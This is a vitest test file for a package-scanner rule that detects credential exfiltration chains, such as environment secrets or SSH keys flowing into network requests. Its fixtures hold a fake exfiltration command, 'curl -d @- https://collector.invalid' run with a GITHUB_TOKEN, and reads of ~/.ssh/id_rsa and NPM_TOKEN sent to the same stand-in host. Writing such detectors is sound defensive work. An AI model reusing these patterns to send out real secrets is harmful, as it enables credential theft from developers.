import { describe, expect, it } from 'vitest';
import type { CodeFact } from '../../analysis/types.js';
import { at, call, flow, packageFacts } from '../rule-test-kit.js';
import { isSecretEnvKey, credentialExfilChain as rule } from './credential-exfil-chain.js';

const env = (key: string, line: number): CodeFact => ({ kind: 'env-read', key, at: at('index.js', line) });
const post = call('https.request', 'network', at('index.js', 9), ['https://collector.invalid/']);

describe('credential-exfil-chain', () => {
  it.each([
    ['the whole environment', env('*', 2)],
    ['process.env.NPM_TOKEN', env('NPM_TOKEN', 2)],
    ['SSH keys', call('fs.readFileSync', 'filesystem-read', at('index.js', 2), ['/home/u/.ssh/id_rsa'])],
  ])('reports %s flowing to the network, with both ends', (source, from) => {
    const findings = rule.run(packageFacts({ code: [from, post, flow(from, post)] }));
    expect(findings).toHaveLength(1);
    expect(findings[0]).toMatchObject({
      message: `${source} flows into https.request`,
      severity: 'critical',
    });
    expect(findings[0]?.source).toEqual(at('index.js', 2));
    expect(findings[0]?.sink).toEqual(at('index.js', 9));
  });

  it('reports a secret handed to curl', () => {
    const from = env('GITHUB_TOKEN', 1);
    const curl = call('child_process.exec', 'process', at('index.js', 4), [
      'curl -d @- https://collector.invalid',
    ]);
    expect(rule.run(packageFacts({ code: [from, curl, flow(from, curl)] }))).toHaveLength(1);
  });

  it.each([
    ['NPM_TOKEN', true],
    ['AWS_SECRET_ACCESS_KEY', true],
    ['npm_config__authToken', true],
    ['DB_PASSWORD', true],
    ['STRIPE_API_KEY', true],
    ['npm_config_proxy', false],
    ['npm_config_sentrycli_cdnurl', false],
    ['KEYMETRICS_NODE', false],
    ['AWS_REGION', false],
    ['GITHUB_REPOSITORY', false],
  ])('treats process.env.%s as a secret: %s', (key, secret) => {
    expect(isSecretEnvKey(key)).toBe(secret);
  });

  it('grades a token sent to its own service medium, and ignores sends to localhost', () => {
    const token = env('GITHUB_TOKEN', 1);
    const github = call('fetch', 'network', at('index.js', 5), ['https://api.github.com/repos/x/y/releases']);
    expect(rule.run(packageFacts({ code: [token, github, flow(token, github)] }))[0]).toMatchObject({
      confidence: 'medium',
    });
    const whole = env('*', 1);
    const local = call('net.createConnection', 'network', at('index.js', 5), ['localhost']);
    expect(rule.run(packageFacts({ code: [whole, local, flow(whole, local)] }))).toEqual([]);
  });

  it('grades a send to a URL built from a first-party base in the same file medium, never silent', () => {
    // ajv 7.2.4's scripts/get-contributors.js: `fetch(`${base}?page=${n}`, {headers: {Authorization: …}})`.
    const token = env('GH_TOKEN_PUBLIC', 11);
    const base: CodeFact = {
      kind: 'url',
      value: 'https://api.github.com/repos/o/r/contributors',
      host: 'api.github.com',
      at: at('index.js', 10),
    };
    const built = call('node-fetch', 'network', at('index.js', 21), ['', '']);
    expect(rule.run(packageFacts({ code: [base, token, built, flow(token, built)] }))[0]).toMatchObject({
      confidence: 'medium',
      message:
        'process.env.GH_TOKEN_PUBLIC flows into node-fetch (to api.github.com, the service such a token is for)',
    });
    // A collector URL beside it, or no URL at all, keeps the chain high; a local URL does not silence it.
    const collector: CodeFact = { ...base, value: 'https://collector.invalid/', host: 'collector.invalid' };
    expect(
      rule.run(packageFacts({ code: [base, collector, token, built, flow(token, built)] }))[0]?.confidence,
    ).toBe('high');
    expect(rule.run(packageFacts({ code: [token, built, flow(token, built)] }))[0]?.confidence).toBe('high');
    const local: CodeFact = { ...base, value: 'http://localhost:8080/', host: 'localhost' };
    expect(rule.run(packageFacts({ code: [local, token, built, flow(token, built)] }))).toHaveLength(1);
  });

  it('is silent for a harmless variable flowing to the network (debug reads DEBUG)', () => {
    const from = env('DEBUG', 1);
    expect(rule.run(packageFacts({ code: [from, post, flow(from, post)] }))).toEqual([]);
  });

  it('is silent when a secret and a network call only share a file', () => {
    expect(rule.run(packageFacts({ code: [env('NPM_TOKEN', 1), post] }))).toEqual([]);
  });

  it('is silent for a secret written to a local file', () => {
    const from = env('*', 1);
    const write = call('fs.writeFileSync', 'filesystem-write', at('index.js', 3));
    expect(rule.run(packageFacts({ code: [from, write, flow(from, write)] }))).toEqual([]);
  });
});
